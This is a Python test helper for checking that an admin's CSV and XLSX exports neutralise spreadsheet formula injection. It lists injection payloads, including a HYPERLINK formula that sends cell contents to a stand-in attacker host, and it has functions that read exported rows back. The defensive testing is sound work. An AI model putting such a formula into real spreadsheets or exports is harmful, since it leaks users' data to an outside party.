"""
Cells that a spreadsheet would run as a formula, and reading the cells the
admin's CSV and XLSX exports wrote.
"""

import csv
import io

import openpyxl

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

# Text as someone could type it, each starting with a character that makes
# Excel, LibreOffice or Google Sheets treat the cell as a formula.
FORMULAS = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+2", "\r=1+2"]
FORMULA_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def read_back_from_xlsx(text):
    """
    `text` as openpyxl reads it back from a cell: XML turns a carriage return
    into a line feed (either way the cell is text, not a formula).
    """
    return text.replace("\r", "\n")


def content(response):
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response):
    """Every row of a CSV export, the headings first, as lists of strings."""
    text = content(response).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_rows(response):
    """Every row of an XLSX export, the headings first, as openpyxl cells."""
    sheet = openpyxl.load_workbook(io.BytesIO(content(response))).active
    return [list(row) for row in sheet.iter_rows()]
